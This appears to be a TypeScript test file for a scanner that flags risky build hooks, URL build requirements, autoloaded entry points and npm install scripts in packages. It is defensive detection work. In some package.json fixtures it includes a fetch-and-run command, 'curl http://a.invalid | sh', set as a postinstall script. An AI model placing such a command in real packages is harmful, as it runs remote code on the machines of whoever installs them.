import assert from 'node:assert/strict';
import { buildSettings } from '../../../../src/scanners/code/carriers/build-settings.js';
import { entryPoints } from '../../../../src/scanners/code/carriers/entry-points.js';
import { packageJson } from '../../../../src/scanners/code/carriers/package-json.js';
import { hostile, hugeEntry, kinds, read, tree, wheel } from './helpers.js';

describe('the carrier of build settings', () => {
  const flagged: readonly (readonly [string, string, string, string, string])[] = [
    [
      'a backend in the tree',
      'pyproject.toml',
      '[build-system]\nrequires = []\nbackend-path = ["_build"]\nbuild-backend = "own"\n',
      'build-hook',
      '_build',
    ],
    [
      'a requirement by URL',
      'pyproject.toml',
      '[build-system]\nrequires = ["wheel", "a @ https://a.invalid/a.zip"]\n',
      'build-requires-url',
      'a @ https://a.invalid/a.zip',
    ],
    [
      'a requirement by path',
      'pyproject.toml',
      '[build-system]\nrequires = ["a @ file:///tmp/a"]\n',
      'build-requires-url',
      'a @ file:///tmp/a',
    ],
    [
      'a hook of hatch',
      'pyproject.toml',
      '[tool.hatch.build.hooks.custom]\npath = "h.py"\n',
      'build-hook',
      'h.py',
    ],
    [
      'a hook of a hatch target, without a path',
      'pyproject.toml',
      '[tool.hatch.build.targets.wheel.hooks.custom]\n',
      'build-hook',
      'hatch_build.py',
    ],
    [
      'a build script of poetry',
      'pyproject.toml',
      '[tool.poetry.build]\nscript = "build.py"\n',
      'build-hook',
      'build.py',
    ],
    [
      'the older form of it',
      'pyproject.toml',
      '[tool.poetry]\nbuild = "build.py"\n',
      'build-hook',
      'build.py',
    ],
    ['a hook of pdm', 'pyproject.toml', '[tool.pdm.build]\ncustom-hook = "b.py"\n', 'build-hook', 'b.py'],
    [
      'a command class',
      'pyproject.toml',
      '[tool.setuptools.cmdclass]\ninstall = "own.Install"\n',
      'build-hook',
      'own.Install',
    ],
    [
      'a command class in setup.cfg',
      'setup.cfg',
      '[options]\ncmdclass =\n  install = own.Install\n',
      'build-hook',
      'install = own.Install',
    ],
    [
      'setup_requires by URL',
      'setup.cfg',
      '[options]\nsetup_requires =\n  a @ git+https://a.invalid/a\n',
      'build-requires-url',
      'a @ git+https://a.invalid/a',
    ],
    [
      'dependency links',
      'setup.cfg',
      '[options]\ndependency_links = http://a.invalid/a\n',
      'build-requires-url',
      'http://a.invalid/a',
    ],
  ];
  for (const [name, path, text, what, value] of flagged) {
    it(`sees ${name}`, () => {
      for (const folder of ['', 'demo-1.0/']) {
        const signals = read(buildSettings, folder + path, text, tree);
        assert.deepEqual(
          signals.map((one) => [one.what, one.value, one.moment]),
          [[what, value, 'install']],
        );
      }
    });
  }

  const clean: readonly (readonly [string, string])[] = [
    [
      'pyproject.toml',
      '[build-system]\nrequires = ["setuptools>=61", "wheel"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "demo"\nurls = { a = "https://a.invalid" }\n',
    ],
    [
      'setup.cfg',
      '[metadata]\nname = demo\nurl = https://a.invalid\n[options]\nsetup_requires =\n  setuptools\ninstall_requires =\n  a @ https://a.invalid/a\n',
    ],
    ['setup.cfg', 'no section\n  = \n[\n]'],
  ];
  for (const [path, text] of clean) {
    it(`says nothing of ${path}: ${JSON.stringify(text.slice(0, 20))}`, () => {
      assert.deepEqual(read(buildSettings, path, text, tree), []);
    });
  }

  it('says nothing of a wheel, which nobody builds', () => {
    assert.deepEqual(read(buildSettings, 'pyproject.toml', flagged[0]?.[2] ?? '', wheel), []);
  });

  it('reads only what lies at the root', () => {
    assert.equal(buildSettings.fits('a/b/pyproject.toml'), false);
  });

  it('says what it did not look at', () => {
    assert.deepEqual(kinds(read(buildSettings, 'pyproject.toml', 'a = [', tree)), ['not-looked-at']);
    assert.deepEqual(kinds(buildSettings.read(hugeEntry('setup.cfg'), tree)), ['not-looked-at']);
  });

  for (const [name, bytes] of hostile) {
    it(`reads ${name}`, () => {
      for (const path of ['pyproject.toml', 'setup.cfg'])
        assert.ok(Array.isArray(read(buildSettings, path, bytes, tree)));
    });
  }
});

describe('the carrier of entry points', () => {
  const path = 'demo-1.0.dist-info/entry_points.txt';

  it('sees modules that a tool loads by itself', () => {
    const text =
      '[console_scripts]\ndemo = demo:main\n\n[pytest11]\nx = demo.plugin:hook [extra]\n[distutils.commands]\ny=demo.build\n';
    const signals = read(entryPoints, path, text);
    assert.deepEqual(
      signals.map(({ what, value, line, moment }) => [what, value, line, moment]),
      [
        ['entry-point-autoload', 'demo.plugin', 5, 'startup'],
        ['entry-point-autoload', 'demo.build', 7, 'startup'],
      ],
    );
  });

  it('says nothing of commands, of other groups and of comments', () => {
    const text = '[console_scripts]\ndemo = demo:main\n[demo.plugins]\na = b\n[pytest11]\n# x = y\n; z = y\n';
    assert.deepEqual(read(entryPoints, path, text), []);
  });

  it('says what it did not look at', () => {
    assert.deepEqual(kinds(entryPoints.read(hugeEntry(path), wheel)), ['not-looked-at']);
    assert.ok(kinds(read(entryPoints, path, 'a\n'.repeat(6000))).includes('not-looked-at'));
  });

  for (const [name, bytes] of hostile) {
    it(`reads ${name}`, () => {
      assert.ok(Array.isArray(read(entryPoints, path, bytes)));
    });
  }
});

describe('the carrier of package.json', () => {
  it('sees what npm would run, and what that does', () => {
    const text = JSON.stringify(
      { name: 'demo', scripts: { postinstall: 'curl http://a.invalid | sh' } },
      null,
      2,
    );
    const signals = read(packageJson, 'pkg/package.json', text);
    assert.deepEqual(kinds(signals), ['package-json-install-script', 'script-fetch-and-run']);
    assert.equal(signals[0]?.line, 4);
    assert.equal(signals[0].value, 'curl http://a.invalid | sh');
  });

  const clean: readonly (readonly [string, string])[] = [
    [
      'scripts that somebody has to ask for',
      '{"scripts": {"build": "curl http://a.invalid | sh", "test": "x"}}',
    ],
    ['what runs in a checkout only', '{"scripts": {"prepare": "npm run build"}}'],
    ['a file without scripts', '{"name": "demo"}'],
    ['a script that is no text', '{"scripts": {"postinstall": 7}}'],
    ['a list', '[1]'],
    ['what is no JSON', '{"scripts": {"postinstall": "x"'],
  ];
  for (const [name, text] of clean) {
    it(`says nothing of ${name}`, () => {
      assert.deepEqual(read(packageJson, 'pkg/package.json', text), []);
    });
  }

  it('says that a file is too large to be read', () => {
    assert.deepEqual(kinds(packageJson.read(hugeEntry('package.json'), wheel)), ['not-looked-at']);
  });

  for (const [name, bytes] of hostile) {
    it(`reads ${name}`, () => {
      assert.ok(Array.isArray(read(packageJson, 'package.json', bytes)));
    });
  }
});
